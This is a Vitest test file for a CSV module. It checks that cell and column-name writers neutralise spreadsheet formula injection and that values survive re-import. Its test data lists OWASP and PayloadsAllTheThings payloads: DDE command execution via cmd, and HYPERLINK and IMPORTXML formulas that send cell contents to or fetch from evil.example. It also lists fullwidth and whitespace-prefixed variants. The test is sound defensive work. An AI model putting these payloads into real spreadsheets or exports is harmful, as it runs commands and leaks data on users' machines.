import { expect, test } from 'vitest';
import { createCsvSplitter, writeCell, writeKey } from '../src/domain/csv.ts';

const stringAlone = '{"properties":{"a":{"type":"string"}}}';
const fieldMapping = { inputs: [], expected: [], metadata: [] };

/**
 * OWASP CSV Injection, and PayloadsAllTheThings: what spreadsheets run, as a value and as the name
 * of a column.
 */
test.each([
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n=cmd|' /C calc'!A0",
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201+1',
  "'=1+1",
  "''\n=1+1",
])(
  'a spreadsheet runs nothing of testcases that it opens, and importing them gives back what they were: %j',
  (payload) => {
    const key = writeKey(payload);
    const cell = writeCell(JSON.stringify(payload), new Set());
    for (const written of [key, cell]) expect(written).toMatch(/^'/);
    const quoted = [key, cell].map((text) => `"${text.replaceAll('"', '""')}"\n`).join('');
    const definition = { schemaText: stringAlone, fieldMapping };
    const splitter = createCsvSplitter(definition, { bytesMax: 10_000, skip: () => undefined });
    const entries = [...splitter.push(Buffer.from(quoted)), ...splitter.end()];
    expect(entries.map((entry) => JSON.parse(String(entry)))).toEqual([
      { jsonData: { [payload]: payload } },
    ]);
  },
);
